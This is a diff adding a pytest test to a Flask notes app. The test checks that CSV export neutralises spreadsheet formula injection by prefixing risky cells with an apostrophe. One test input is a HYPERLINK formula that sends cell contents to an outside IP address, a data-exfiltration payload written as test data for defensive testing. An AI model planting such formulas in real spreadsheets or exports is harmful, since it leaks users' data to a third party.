@@ -265,6 +265,27 @@ def test_all_is_in_the_files(client: FlaskClient) -> None:
     assert client.get("/notes.csv?x=1").status_code == 400
 
 
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://198.51.100.1/?"&A1)', '\'=HYPERLINK("http://198.51.100.1/?"&A1)'),
+        ("+1+1", "'+1+1"),
+        ("-2+3 °C, frost", "'-2+3 °C, frost"),
+        ("@SUM(1,2)", "'@SUM(1,2)"),
+        ("＝1+1", "'＝1+1"),
+        ("-2.5", "-2.5"),
+        ("a=1", "a=1"),
+        ("'quoted'", "'quoted'"),
+    ],
+)
+def test_no_text_is_a_formula_to_a_spreadsheet(client: FlaskClient, text: str, cell: str) -> None:
+    client.post("/notes/write", data=NOTE | {"text": text})
+    client.post("/notes/write", data=ADJUST | {"text": text, "offset": "-2.5"})
+    note, correction = csv.DictReader(io.StringIO(client.get("/notes.csv").text))
+    assert (note["text"], correction["text"], correction["offset"]) == (cell, cell, "-2.5")
+    assert written_down(client)["notes"][0]["text"] == text
+
+
 # --- Who may -----------------------------------------------------------------------------------
 
 
